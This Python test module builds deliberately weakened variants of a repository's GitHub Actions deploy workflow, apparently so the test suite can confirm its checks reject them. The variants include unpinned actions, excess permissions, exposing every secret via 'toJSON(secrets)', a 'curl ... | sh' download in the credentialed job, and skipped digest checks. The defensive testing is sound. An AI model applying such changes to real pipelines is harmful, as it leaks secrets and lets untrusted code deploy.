"""Changes of the deploying workflow that give a job a right, a secret or code that is not its own."""

from __future__ import annotations

from collections.abc import Callable

from tests.infra.templates import ROOT

CI, DEPLOY = ((ROOT / ".github" / "workflows" / f"{name}.yml").read_text() for name in ("ci", "deploy"))
CHECKOUT = "actions/checkout@de0fac2e4500dabe0009e67214ff5f5447ce83dd # v6.0.2"
CREDENTIALS = "aws-actions/configure-aws-credentials@8df5847569e6427dd6c4fb1cf565c83acfa8afa7 # v6.0.0"
DIGEST = 'run: echo "$DIGEST  motcua.tar.gz" | sha256sum --check --strict'
BUILT = '{DIGEST: "${{ needs.build.outputs.digest }}"}'
SECRET = '{EDGE_SECRET: "${{ secrets.EDGE_SECRET }}"}'
Change = Callable[[str], str]


def replace_text(old: str, new: str, times: int = -1) -> Change:
    """Replace a text, which must be present."""

    def change_text(text: str) -> str:
        assert old in text, old
        return text.replace(old, new, times)

    return change_text


def change_job(job: str, change: Change) -> Change:
    """Change one job's text alone."""

    def change_text(text: str) -> str:
        start = text.index(f"\n  {job}:\n") + 1
        following = [text.find(f"\n  {name}:\n", start) for name in ("audit", "build", "attest", "deploy")]
        end = min((at for at in following if at > 0), default=len(text))
        return text[:start] + change(text[start:end]) + text[end:]

    return change_text


RIGHTS_ATTACKS: dict[str, Change] = {
    "a tag in place of a commit": replace_text(CHECKOUT, "actions/checkout@v6", 1),
    "a branch in place of a commit": replace_text(CHECKOUT, "actions/checkout@main", 1),
    "a short commit": replace_text(CHECKOUT, "actions/checkout@de0fac2e4500 # v6.0.2", 1),
    "a version with a commit's length": replace_text(CHECKOUT, f"actions/checkout@{'v6' * 20} # v6.0.2", 1),
    "a commit without its version": replace_text(CHECKOUT, CHECKOUT.partition(" #")[0], 1),
    "two commits of one action": replace_text(CHECKOUT, f"actions/checkout@{'0' * 40} # v6.0.2", 1),
    "an action in a flow mapping": replace_text(
        f"- uses: {CHECKOUT}\n        with: {{persist-credentials: false}}",
        "- {uses: actions/checkout@v6, with: {persist-credentials: false}}",
        1,
    ),
    "an action of the checkout itself": replace_text(CHECKOUT, "./.github/actions/setup", 1),
    "an image as an action": replace_text(CHECKOUT, "docker://alpine:latest", 1),
    "an identity for the build": change_job(
        "build",
        replace_text("timeout-minutes: 30", "timeout-minutes: 30\n    permissions: {id-token: write, contents: read}"),
    ),
    "an identity for the audit": change_job(
        "audit", replace_text("timeout-minutes: 15", "timeout-minutes: 15\n    permissions: {id-token: write}")
    ),
    "an identity for every job": replace_text(
        "permissions:\n  contents: read", "permissions:\n  contents: read\n  id-token: write"
    ),
    "every right for every job": replace_text("permissions:\n  contents: read", "permissions: write-all"),
    "no word about rights": replace_text("permissions:\n  contents: read\n", ""),
    "more rights for the deployment": change_job(
        "deploy", replace_text("id-token: write", "id-token: write\n      contents: write")
    ),
    "more rights for the attestation": change_job(
        "attest", replace_text("attestations: write", "attestations: write\n      packages: write")
    ),
    "the deployment's environment for the build": change_job(
        "build", replace_text("timeout-minutes: 30", "timeout-minutes: 30\n    environment: prod-hue")
    ),
    "the deployment's environment for the attestation": change_job(
        "attest", replace_text("timeout-minutes: 15", "timeout-minutes: 15\n    environment: prod-hue")
    ),
    "a deployment without its environment": replace_text(
        "    environment: ${{ inputs.stage || 'staging' }}-${{ inputs.province || vars.STAGING_PROVINCE }}\n", ""
    ),
    "a secret for the whole deployment": change_job(
        "deploy", replace_text("PYTHONPATH: lib", "PYTHONPATH: lib\n      EDGE_SECRET: ${{ secrets.EDGE_SECRET }}")
    ),
    "a secret for the workflow": replace_text("jobs:", "env: {EDGE_SECRET: '${{ secrets.EDGE_SECRET }}'}\njobs:"),
    "a secret in the build": change_job(
        "build", replace_text("env:\n", "env:\n      KEY: ${{ secrets.EDGE_SECRET }}\n")
    ),
    "a secret in a step of the build": change_job(
        "build",
        replace_text(
            '- run: make release STAGE="$STAGE"', f'- run: make release STAGE="$STAGE"\n        env: {SECRET}'
        ),
    ),
    "a secret inside a script": replace_text(SECRET, "{}", 1),
    "every secret at once": replace_text(SECRET, '{ALL: "${{ toJSON(secrets) }}"}', 1),
    "a secret for an action": change_job(
        "deploy",
        replace_text("role-session-name:", "external-id: ${{ secrets.EDGE_SECRET }}\n          role-session-name:"),
    ),
    "the pipeline's own token in the build": change_job(
        "build", replace_text("STAGE: $", "GH_TOKEN: ${{ github.token }}\n      STAGE: $")
    ),
    "secrets handed on": change_job(
        "build", replace_text("timeout-minutes: 30", "timeout-minutes: 30\n    secrets: inherit")
    ),
    "an expression inside a script": change_job("build", replace_text('STAGE="$STAGE"', "STAGE=${{ inputs.stage }}")),
    "a checkout in the job with the role": change_job(
        "deploy",
        replace_text(
            "- name: Unpack", f"- uses: {CHECKOUT}\n        with: {{persist-credentials: false}}\n      - name: Unpack"
        ),
    ),
    "a checkout that keeps its token": replace_text("with: {persist-credentials: false}", "with: {fetch-depth: 1}", 1),
    "make in the job with the role": change_job("deploy", replace_text("run: tar ", "run: make install && tar ")),
    "pip in the job with the role": change_job("deploy", replace_text("run: tar ", "run: pip install boto3 && tar ")),
    "pip as a module in the job with the role": change_job(
        "deploy", replace_text("run: tar ", "run: python3 -m pip install boto3; tar ")
    ),
    "npm in the job with the role": change_job("deploy", replace_text("run: tar ", "run: npm ci; tar ")),
    "a system package in the job with the role": change_job(
        "deploy", replace_text("run: tar ", "run: sudo apt-get install -y jq; tar ")
    ),
    "a download in the job with the role": change_job(
        "deploy", replace_text("run: tar ", "run: curl -sSf https://example.org/x | sh; tar ")
    ),
    "a clone in the job with the role": change_job(
        "deploy", replace_text("run: tar ", "run: git clone https://example.org/x; tar ")
    ),
    "another action in the job with the role": change_job(
        "deploy", replace_text(CREDENTIALS, f"someone/helper@{'a' * 40} # v1.0.0")
    ),
    "another action in the job of the attestation": change_job(
        "attest", replace_text("actions/attest@", "someone/attest@", 1)
    ),
    "an artefact taken unchecked": change_job("deploy", replace_text(DIGEST, "run: ls")),
    "an artefact checked against itself": change_job(
        "deploy", replace_text(BUILT, "{DIGEST: \"${{ hashFiles('motcua.tar.gz') }}\"}")
    ),
    "a check that may fail": change_job("deploy", replace_text(DIGEST, f"{DIGEST} || true")),
    "a check that continues after a failure": change_job(
        "deploy", replace_text(DIGEST, f"continue-on-error: true\n        {DIGEST}")
    ),
    "a check that is left out at times": change_job(
        "deploy", replace_text(DIGEST, f"if: inputs.stage == 'staging'\n        {DIGEST}")
    ),
    "a check after unpacking": change_job(
        "deploy",
        replace_text(
            "- name: The artefact is what was built",
            "- run: tar -xzf motcua.tar.gz\n      - name: The artefact is what was built",
        ),
    ),
    "an attestation of what was not checked": change_job("attest", replace_text(DIGEST, "run: ls")),
    "a build that says no digest": change_job("build", replace_text("digest: ${{", "other: ${{")),
    "a deployment that waits for no test": replace_text(
        "needs: [verify, audit, build, attest]", "needs: [audit, build, attest]"
    ),
    "a deployment that waits for no audit": replace_text(
        "needs: [verify, audit, build, attest]", "needs: [verify, build, attest]"
    ),
    "a deployment without provenance": replace_text(
        "needs: [verify, audit, build, attest]", "needs: [verify, audit, build]"
    ),
    "a cache that others fill": change_job(
        "build",
        replace_text("python-version-file: .python-version", "python-version-file: .python-version, cache: pip"),
    ),
    "a service next to what is deployed": change_job(
        "build", replace_text("timeout-minutes: 30", "timeout-minutes: 30\n    services: {db: {image: postgres}}")
    ),
    "a machine of somebody's own": replace_text("runs-on: ubuntu-24.04", "runs-on: self-hosted", 1),
    "an image that moves": replace_text("runs-on: ubuntu-24.04", "runs-on: ubuntu-latest", 1),
    "a container": replace_text("runs-on: ubuntu-24.04", "runs-on: ubuntu-24.04\n    container: node:20", 1),
    "no time limit": replace_text("    timeout-minutes: 60\n", ""),
    "started by a stranger's change": replace_text("on:\n", "on:\n  pull_request_target:\n"),
    "started by another run": replace_text("on:\n", "on:\n  workflow_run: {workflows: [ci]}\n"),
    "a secret in capitals": change_job(
        "build", replace_text("env:\n", "env:\n      KEY: ${{ SECRETS.EDGE_SECRET }}\n")
    ),
    "a secret behind braces": change_job(
        "build", replace_text("env:\n", "env:\n      KEY: \"${{ format('{0}', secrets.EDGE_SECRET) }}\"\n")
    ),
    "a secret behind two braces": change_job(
        "build", replace_text("env:\n", "env:\n      KEY: \"${{ format('}}{0}', secrets.EDGE_SECRET) }}\"\n")
    ),
    "a secret over two lines": change_job(
        "build",
        replace_text("env:\n", "env:\n      KEY: >-\n        ${{ inputs.stage &&\n        secrets.EDGE_SECRET }}\n"),
    ),
    "all that is known of the run": change_job(
        "build", replace_text("env:\n", "env:\n      KEY: ${{ toJSON(github) }}\n")
    ),
    "all of it, joined": change_job(
        "build", replace_text("env:\n", "env:\n      KEY: \"${{ join(github.*, ',') }}\"\n")
    ),
}
